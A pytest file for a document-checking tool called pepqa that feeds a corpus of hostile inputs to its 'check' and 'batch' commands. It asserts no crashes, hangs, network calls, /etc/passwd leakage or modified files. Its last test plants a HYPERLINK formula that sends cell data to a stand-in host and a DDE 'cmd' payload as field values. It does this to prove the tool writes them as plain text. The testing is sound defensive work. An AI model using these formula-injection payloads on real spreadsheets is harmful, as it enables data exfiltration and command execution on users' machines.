"""Every file of the bad-input corpus (tests/corpus.py) through `pepqa check`, then all of them in one `pepqa batch`.

The standard: an exit status of 0, 1 or 2; never a traceback, never a hang; an unreadable file gives exactly
one stderr line ``pepqa: <path>: <reason>``; a readable one prints nothing on stderr; no network attempt; no
input changed. The batch goes on past every bad file, lists each as a row with its reason, leaves no
half-written file and resumes from its cache. The figures are printed (run with -s to see them).
"""
from __future__ import annotations

import csv
import json
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from corpus import (EXPECT, NOT_A_FILE, PASSWD_MARK, SAMPLES, SLOW_PDF, attempts, build_corpus, fingerprint,
                    netblock_env)

TODAY = "2025-10-20"
CHECK_TIMEOUT = 60  # seconds: "hung" (most files take 2-3 s, mostly start-up; slack for a busy machine)
SLOW_TIMEOUT = 150  # the file built to be slow meets pepqa's own 60 s read limit
BATCH_TIMEOUT = 20


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    items = build_corpus(base / "corpus")
    env, log = netblock_env(base / "netblock")
    return base, items, env, log


def _pepqa(args, env, cwd, timeout):
    return subprocess.run([sys.executable, "-m", "pepqa.cli", *args], env=env, cwd=cwd, capture_output=True,
                          text=True, errors="replace", timeout=timeout)


def _check_one(item, env, cwd):
    path, kind = item
    start = time.monotonic()
    try:
        r = _pepqa(["check", str(path), "--today", TODAY], env, cwd, SLOW_TIMEOUT if kind == SLOW_PDF else CHECK_TIMEOUT)
    except subprocess.TimeoutExpired:
        return {"path": path, "kind": kind, "hung": True}
    return {"path": path, "kind": kind, "hung": False, "rc": r.returncode, "out": r.stdout, "err": r.stderr,
            "secs": time.monotonic() - start}


def _problems(res) -> list[str]:
    path, kind = res["path"], res["kind"]
    if res["hung"]:
        return ["hung"]
    rc, err, out = res["rc"], res["err"], res["out"]
    bad = []
    if rc not in (0, 1, 2):
        bad.append(f"exit {rc}")
    if "Traceback" in err or "Traceback" in out:
        bad.append("traceback")
    lines = [ln for ln in err.splitlines() if ln.strip()]
    if rc == 2:
        if len(lines) != 1 or not lines[0].startswith(f"pepqa: {path}: ") or len(lines[0]) <= len(f"pepqa: {path}: "):
            bad.append(f"not one error line: {lines[:3]}")
    elif err.strip():
        bad.append(f"stderr on a readable file: {lines[:3]}")
    want = EXPECT[kind]
    if want == "error" and rc != 2:
        bad.append(f"expected unreadable (exit 2), got exit {rc}")
    if want == "read" and rc not in (0, 1):
        bad.append(f"expected a PEP (exit 0 or 1), got exit {rc}: {lines[:1]}")
    if PASSWD_MARK in out or PASSWD_MARK in err:
        bad.append("/etc/passwd content in the output")
    return bad


def test_check_every_bad_input(corpus):
    base, items, env, log = corpus
    cwd = base / "cwd"
    cwd.mkdir()
    before = fingerprint([base / "corpus", SAMPLES])
    with ThreadPoolExecutor(max_workers=2) as pool:
        results = list(pool.map(lambda it: _check_one(it, env, cwd), items))
    after = fingerprint([base / "corpus", SAMPLES])

    failures = {str(r["path"]): p for r in results if (p := _problems(r))}
    hung = sum(1 for r in results if r["hung"])
    crashed = sum(1 for r in results if not r["hung"] and (r["rc"] not in (0, 1, 2) or "Traceback" in r["err"]))
    unreadable = sum(1 for r in results if not r["hung"] and r["rc"] == 2)
    net = attempts(log)
    modified = [p for p in before if before[p] != after.get(p)]
    slowest = max((r for r in results if not r["hung"]), key=lambda r: r["secs"])
    print(f"\nhostile check: {len(items)} bad inputs tried, {unreadable} refused with one line, "
          f"{len(items) - unreadable - hung} read, {crashed} crashed, {hung} hung, {len(net)} network attempts, "
          f"{len(modified)} inputs modified; slowest {Path(slowest['path']).name} {slowest['secs']:.1f} s")
    assert not failures, json.dumps(failures, indent=1)
    assert not net, net
    assert not modified, modified
    assert not list(cwd.iterdir()), "check writes nothing"
    assert not Path("/tmp/pepqa-pwned.txt").exists()


def test_batch_over_corpus_and_samples(corpus):
    base, items, env, log = corpus
    out = base / "batch-out"
    cwd = base / "cwd-batch"
    cwd.mkdir()
    before = fingerprint([base / "corpus", SAMPLES])
    args = ["batch", str(base / "corpus"), str(SAMPLES), "--out", str(out), "--today", TODAY, "--workers", "2",
            "--timeout", str(BATCH_TIMEOUT), "--no-progress"]
    start = time.monotonic()
    r = _pepqa(args, env, cwd, timeout=600)
    secs = time.monotonic() - start
    after = fingerprint([base / "corpus", SAMPLES])

    assert "Traceback" not in r.stderr + r.stdout, r.stderr[-3000:]
    assert r.returncode == 1, (r.returncode, r.stdout[-2000:], r.stderr[-2000:])  # 1: unreadable files and findings
    with open(out / "summary.csv", newline="", encoding="utf-8") as f:
        rows = {row["File"]: row for row in csv.DictReader(f)}
    samples = [p for p in SAMPLES.iterdir() if p.suffix in (".docx", ".pdf", ".json") and
               not p.name.endswith(".expected.json") and not p.name.endswith(".findings.json")]
    bad_files = [p for p, kind in items if kind != NOT_A_FILE]  # a named pipe is not a file: batch skips it
    missing = [str(p) for p in bad_files + samples if str(p) not in rows]
    assert not missing, missing
    unreadable = {f: row["Could not read"] for f, row in rows.items() if row["Grade"] == "unreadable"}
    pipes = [str(p) for p, kind in items if kind == NOT_A_FILE]
    assert all(rows[p]["Grade"] == "skipped" and "not a regular file" in rows[p]["Could not read"] for p in pipes)
    for p, kind in items:
        if EXPECT[kind] == "error" and kind != NOT_A_FILE:
            assert unreadable.get(str(p)), f"{p.name} ({kind}) should be a row with its reason"
        if EXPECT[kind] == "read":
            assert str(p) not in unreadable, f"{p.name} ({kind}) should read: {unreadable[str(p)]}"
    assert all(str(s) not in unreadable for s in samples), "every sample reads in a batch"
    assert any("longer than the" in why for why in unreadable.values()), "the slow PDF met the per-file time limit"
    err_lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
    # the paths passed over (the pipe) are counted in one line and listed as rows in summary.csv
    assert sum(1 for ln in err_lines if " skipped (" in ln) == 1
    err_lines = [ln for ln in err_lines if " skipped (" not in ln]
    assert len(err_lines) == len(unreadable)
    assert all(ln.startswith("pepqa: a file could not be read: ") for ln in err_lines), err_lines[:5]
    assert not any(Path(p).name in r.stderr for p, _ in items), "default stderr names no file"
    findings = [json.loads(x) for x in (out / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sum(1 for x in findings if x.get("code") == "READ") == len(unreadable)
    assert not list(out.rglob("*.part")), "no half-written output survives"
    assert before == after, "inputs untouched"
    assert not list(cwd.iterdir()), "batch writes only into --out"

    # Resumable: a second run takes every record from the cache and writes the same summary.
    first = (out / "summary.csv").read_bytes()
    r2 = _pepqa(args, env, cwd, timeout=300)
    total = sum(1 for row in rows.values() if row["Grade"] != "skipped")  # skipped paths are rows, not cached files
    assert f"{total} unchanged since last run" in r2.stdout, r2.stdout
    assert (out / "summary.csv").read_bytes() == first
    assert not list(out.rglob("*.part"))
    net = attempts(log)
    assert not net, net
    print(f"\nhostile batch: {total} files ({len(unreadable)} unreadable rows) in {secs:.0f} s, exit {r.returncode}; "
          f"re-run took every record from the cache; {len(net)} network attempts; inputs unchanged")


def test_spreadsheet_cells_are_never_live_formulas(tmp_path):
    """A PEP is outside data: a name like '=HYPERLINK("http://...")' must land in summary.xlsx/csv as text,
    or opening the summary in Excel would run it (and could send data off the machine)."""
    from openpyxl import load_workbook

    from pepqa.checks.baseline import BASELINE, apply_patch

    inbox = tmp_path / "in"
    inbox.mkdir()
    data = apply_patch(BASELINE, {"child.name": '=HYPERLINK("http://pepqa-xxe.invalid/?"&A1,"Maya")',
                                  "school.name": "+cmd|' /C calc'!A0"})
    (inbox / "formula.json").write_text(json.dumps(data), encoding="utf-8")
    env, log = netblock_env(tmp_path / "nb")
    r = _pepqa(["batch", str(inbox), "--out", str(tmp_path / "out"), "--today", TODAY, "--no-progress"], env, tmp_path,
               timeout=120)
    assert r.returncode in (0, 1), r.stderr
    wb = load_workbook(tmp_path / "out" / "summary.xlsx")
    live = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not live, f"PEP text written as live formulas: {live[:3]}"
    text = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8")
    assert '\n=HYPERLINK' not in text and ',=HYPERLINK' not in text and ',"=HYPERLINK' not in text
